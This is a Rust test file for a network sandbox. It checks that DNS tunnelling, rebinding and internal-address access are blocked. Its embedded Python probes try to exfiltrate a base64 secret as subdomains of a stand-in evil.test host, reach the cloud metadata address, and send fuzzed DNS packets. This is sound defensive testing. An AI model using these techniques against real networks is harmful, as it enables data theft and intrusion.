//! The resolver as a way out, and what a name may resolve to.

use std::fs;
use std::net::{IpAddr, SocketAddr};
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

use bailiwick_model::{Flow, Reason, Verdict};
use bailiwick_testkit::{Bailiwick, DnsServer, HttpServer, LeakCheck, Run, User};

use crate::support::{
    PYTHON, REFUSED, Told, everyone, host_command, inside, outside, told, with_prelude,
};

/// Everyone, on a machine whose resolver is the test's. Only root can make such a machine, in a mount namespace.
///
/// The resolver listens on an address of loopback where no other program does, and on the only port that resolv.conf(5) can say.
fn with_scripted_resolver(address: [u8; 4], test: impl Fn(&Bailiwick, &DnsServer)) {
    if !User::current().is_root() {
        eprintln!("skipped: only root can give a process another resolv.conf");
        return;
    }
    let resolver = DnsServer::start_at(SocketAddr::from((address, 53)));
    for bailiwick in everyone() {
        test(&bailiwick, &resolver);
    }
}

/// Runs the probe where /etc/resolv.conf names the scripted resolver.
fn resolved(
    bailiwick: &Bailiwick,
    resolver: &DnsServer,
    run: Run<'_>,
    probe: &str,
) -> (Told, Vec<Flow>) {
    let configuration = bailiwick.write(
        bailiwick.home().join("resolv.conf"),
        format!(
            "nameserver {}\noptions timeout:1 attempts:1\n",
            resolver.address().ip()
        ),
    );
    fs::set_permissions(&configuration, fs::Permissions::from_mode(0o644)).unwrap();
    let flows = bailiwick.home().join("resolved.jsonl");
    let _ = fs::remove_file(&flows);
    let run = run
        .option("--flows")
        .option(&flows)
        .prepared([PYTHON, "-c", &with_prelude(probe)]);
    let output = in_mount_namespace(bailiwick, &configuration, &run)
        .output()
        .expect("unshare");
    let complaint = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{complaint}");
    let flows = fs::read_to_string(&flows).unwrap_or_default();
    let flows = flows
        .lines()
        .map(|line| serde_json::from_str(line).expect("a flow"))
        .collect();
    (told(&String::from_utf8_lossy(&output.stdout)), flows)
}

fn in_mount_namespace(
    bailiwick: &Bailiwick,
    configuration: &std::path::Path,
    command: &Command,
) -> Command {
    const SCRIPT: &str = "mount --bind \"$1\" /etc/resolv.conf && shift && exec setpriv --reuid \"$1\" --regid \"$2\" --clear-groups -- \"$3\" \"${@:4}\"";
    let user = bailiwick.user();
    let mut unshare = host_command("unshare", User::current());
    unshare
        .args(["-m", "bash", "-c", SCRIPT, "bash"])
        .arg(configuration)
        .arg(user.uid.to_string())
        .arg(user.gid.to_string());
    unshare
        .arg(command.get_program())
        .args(command.get_args())
        .current_dir(bailiwick.workspace());
    unshare.env_clear().envs(
        command
            .get_envs()
            .filter_map(|(name, value)| Some((name, value?))),
    );
    unshare
}

fn is_denied(flows: &[Flow], destination: &str, reason: Reason) -> bool {
    let to = |flow: &&Flow| flow.destination.to_string() == destination;
    flows.iter().filter(to).any(|flow| flow.reason == reason)
        && !flows
            .iter()
            .filter(to)
            .any(|flow| flow.verdict == Verdict::Allow && flow.bytes_in > 0)
}

#[test]
fn asking_for_names_tells_nobody_outside() {
    let _leaks = LeakCheck::begin();
    with_scripted_resolver([127, 77, 53, 1], |bailiwick, resolver| {
        let (asked, server) = (resolver.asked().len(), HttpServer::start());
        resolver.set("control.allowed.test", &[server.address().ip()]);
        let probe = r#"
            secret = "cm9vdDp4OjA6MA"
            for tcp in [False, True]:
                for name in [f"{secret}.evil.test", f"{secret}.allowed.test", f"{secret}.{secret}.allowed.test"]:
                    for kind in [1, 28, 15, 16, 5, 6, 2, 33, 35, 43, 48, 64, 65, 99, 255, 257, 65280]:
                        tell(f"{name} {kind} {tcp}", lambda: ask(name, kind, tcp=tcp))
            tell("control", lambda: http("control.allowed.test", 80))
        "#;
        let (told, _) = resolved(
            bailiwick,
            resolver,
            bailiwick.run().allowing(&["*.allowed.test"]),
            probe,
        );
        for name in told.names().filter(|name| name.contains("evil")) {
            told.said(name, "ok 5/0");
        }
        let asked = &resolver.asked()[asked..];
        assert!(
            !asked.iter().any(|name| name.contains("cm9v")),
            "the resolver told the world: {asked:?}"
        );
        assert!(
            asked
                .iter()
                .any(|name| name.starts_with("control.allowed.test")),
            "control: a connection resolves its name; {asked:?}"
        );
    });
}

#[test]
fn a_name_that_resolves_inwards_is_refused_whenever_it_does() {
    let _leaks = LeakCheck::begin();
    with_scripted_resolver([127, 77, 53, 2], |bailiwick, resolver| {
        let server = HttpServer::start();
        let port = server.address().port();
        let [public, loopback, metadata, private, mapped, nat64, own]: [IpAddr; 7] = [
            "192.0.2.200",
            "127.0.0.1",
            "169.254.169.254",
            "10.9.9.9",
            "::ffff:127.0.0.1",
            "64:ff9b::7f00:1",
            "::",
        ]
        .map(|a| a.parse().unwrap());
        resolver.set("loopback.test", &[loopback]);
        resolver.set("metadata.test", &[metadata]);
        resolver.set("private.test", &[private]);
        resolver.set("mapped.test", &[mapped]);
        resolver.set("nat64.test", &[nat64]);
        resolver.set("unspecified.test", &[own]);
        resolver.set("mixed.test", &[public, loopback]);
        resolver.set_in_turn("rebinding.test", &[&[private], &[loopback]]);
        let names = [
            "loopback.test",
            "metadata.test",
            "private.test",
            "mapped.test",
            "nat64.test",
            "unspecified.test",
            "mixed.test",
            "rebinding.test",
            "rebinding.test.",
        ];
        let probe = format!(
            "for name in {names:?}: tell(name, lambda: http(name, {port}, name.rstrip('.')))\ntell('control', lambda: http('pinned.test', {port}))"
        );
        for run in [bailiwick.run().allowing(&["*.test"]), bailiwick.run()] {
            let before = server.connections();
            let run = run.resolve("pinned.test", server.address());
            let (told, flows) = resolved(bailiwick, resolver, run, &probe);
            told.said("control", "ok 200")
                .all_failed_but(&["control"], REFUSED);
            assert_eq!(server.connections(), before + 1);
            for name in ["private.test", "mixed.test", "rebinding.test"] {
                let denied = [Reason::ResolvedToPrivate, Reason::Floor]
                    .iter()
                    .any(|reason| is_denied(&flows, &format!("{name}:{port}"), *reason));
                assert!(denied, "{name}: {flows:#?}");
            }
        }
    });
}

#[test]
fn an_address_is_no_name_and_one_name_is_no_other() {
    let (_leaks, server) = (LeakCheck::begin(), HttpServer::start());
    let port = server.address().port();
    for bailiwick in everyone() {
        let run = bailiwick
            .run()
            .allowing(&["allowed.test"])
            .resolve("allowed.test", server.address())
            .resolve("denied.test", server.address());
        let told = inside(
            run,
            &format!(
                r#"
            tell("allowed", lambda: http("allowed.test", {port}))
            tell("denied", lambda: http("denied.test", {port}))
            tell("its address", lambda: http("{ip}", {port}, "allowed.test"))
            here = socket.gethostbyname("allowed.test")
            tell("synthetic", lambda: here.startswith("198.18."))
            first, last = here.rsplit(".", 1)
            for other in [f"{{first}}.{{int(last) + 1}}", f"{{first}}.{{int(last) + 2}}", f"{{first}}.0", f"{{first}}.255", "198.18.0.1", "198.19.255.253"]:
                tell(other, lambda: http(other, {port}, "allowed.test"))
            tell("other port", lambda: http(here, 1, "allowed.test"))
        "#,
                ip = server.address().ip()
            ),
        );
        told.said("allowed", "ok 200")
            .said("synthetic", "ok True")
            .all_failed_but(&["allowed", "synthetic", "other port"], REFUSED);
        told.failed(
            "other port",
            &["ok 502", "ECONNRESET", "ECONNREFUSED", "ok 200"],
        );
    }
}

#[test]
fn no_other_server_answers_questions() {
    let _leaks = LeakCheck::begin();
    let outside_server = crate::support::host_address()
        .map(|address| SocketAddr::new(address, if User::current().is_root() { 53 } else { 0 }));
    let server = outside_server.map(DnsServer::start_at);
    for bailiwick in everyone() {
        let own = server
            .as_ref()
            .map_or_else(|| "192.0.2.77:53".parse().unwrap(), DnsServer::address);
        let probe = format!(
            r#"
            for server, port in [("{ip}", {port}), ("192.0.2.77", 53), ("8.8.8.8", 53), ("198.19.255.253", 53)]:
                for tcp in [False, True]:
                    tell(f"{{server}} {{tcp}}", lambda: ask("evil.test", server=server, port=port, tcp=tcp))
            tell("ipv6", lambda: ask("evil.test", server="2001:db8::53", family=AF_INET6))
            tell("control", lambda: ask("allowed.test", server="192.0.2.77"))
            for port in [853, 5353, 5355, 8853]:
                tell(f"other port {{port}}", lambda: len(exchange(question("evil.test"), "192.0.2.77", tcp=True, port=port)))
            def raw():
                with connect("192.0.2.77", 53) as stream:
                    stream.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n" + b"x" * 70000)
                    return len(stream.recv(100)) or None.x
            tell("not dns", raw)
        "#,
            ip = own.ip(),
            port = own.port()
        );
        let told = inside(bailiwick.run().allowing(&["allowed.test"]), &probe);
        told.said("control", "ok 0/1")
            .failed("not dns", &["AttributeError", "ECONNRESET", "EPIPE"]);
        for name in [
            "192.0.2.77 False",
            "192.0.2.77 True",
            "8.8.8.8 False",
            "8.8.8.8 True",
            "198.19.255.253 True",
            "ipv6",
        ] {
            told.said(name, "ok 5/0");
        }
        for port in [853, 5353, 5355, 8853] {
            told.failed(
                &format!("other port {port}"),
                &["ECONNRESET", "ECONNREFUSED", "ok 0"],
            );
        }
        if let Some(server) = &server {
            assert_eq!(server.asked(), [""; 0]);
        }
    }
    if let Some(server) = &server {
        outside(
            &everyone()[0],
            &format!(
                "tell('control', lambda: ask('control.test', server='{}', port={}))",
                server.address().ip(),
                server.address().port()
            ),
        );
        assert_eq!(server.asked(), ["control.test"]);
    }
}

#[test]
fn malformed_questions_harm_nobody_and_special_records_give_nothing_away() {
    let _leaks = LeakCheck::begin();
    for bailiwick in everyone() {
        let told = inside(
            bailiwick.run().allowing(&["allowed.test"]),
            r#"
            import random
            generator = random.Random(1)
            sender = socket.socket(AF_INET, SOCK_DGRAM)
            good = question("allowed.test")
            loops = [b"\xc0\x0c", b"\x3f" * 64, b"\x80" * 64, b"\xff" * 300, b"\x01a" * 200, b"", b"\0"]
            for tail in loops:
                sender.sendto(good[:12] + tail, ("198.19.255.253", 53))
            for _ in range(400):
                bad = bytearray(good)
                for _ in range(generator.randrange(1, 8)):
                    bad[generator.randrange(len(bad))] = generator.randrange(256)
                sender.sendto(bytes(bad[: generator.randrange(len(bad) + 1)]), ("198.19.255.253", 53))
            for data in [b"\0", b"\0\0", b"\xff\xff" + b"x" * 100, struct.pack("!H", 4) + b"abcd", struct.pack("!H", len(good)) + good[:5]]:
                with connect("198.19.255.253", 53) as stream:
                    stream.sendall(data)
            tell("udp", lambda: ask("allowed.test"))
            tell("tcp", lambda: ask("allowed.test", tcp=True))
            for kind in [28, 64, 65, 16, 255]:
                tell(f"type {kind}", lambda: ask("allowed.test", kind))
            tell("transfer", lambda: ask("allowed.test", 252, tcp=True))
            tell("reverse of another", lambda: ask("1.0.0.10.in-addr.arpa", 12))
        "#,
        );
        told.said("udp", "ok 0/1")
            .said("tcp", "ok 0/1")
            .said("reverse of another", "ok 3/0");
        for kind in [28, 64, 65, 16, 255] {
            told.said(&format!("type {kind}"), "ok 0/0");
        }
        assert!(told.answer("transfer").ends_with("/0"));
    }
}

#[test]
fn a_sandbox_that_uses_up_its_names_is_told_and_keeps_those_it_has() {
    let _leaks = LeakCheck::begin();
    let (first, second) = (&everyone()[0], HttpServer::start());
    let probe = format!(
        r#"
        tell("before", lambda: http("first.wild.test", {port}, "first.wild.test"))
        codes = [ask(f"n{{n}}.wild.test") for n in range(700)]
        tell("answered", lambda: codes.count("0/1"))
        tell("refused", lambda: codes.count("5/0"))
        tell("new", lambda: ask("one-more.wild.test"))
        tell("known", lambda: http("first.wild.test", {port}, "first.wild.test"))
    "#,
        port = second.address().port()
    );
    let run = first
        .run()
        .allowing(&["*.wild.test"])
        .resolve("first.wild.test", second.address());
    let told = inside(run, &probe);
    told.said("before", "ok 200")
        .said("known", "ok 200")
        .said("new", "ok 5/0")
        .denied("one-more.wild.test", Reason::NameLimit);
    assert_eq!(
        (told.answer("answered"), told.answer("refused")),
        ("ok 599", "ok 101")
    );
}
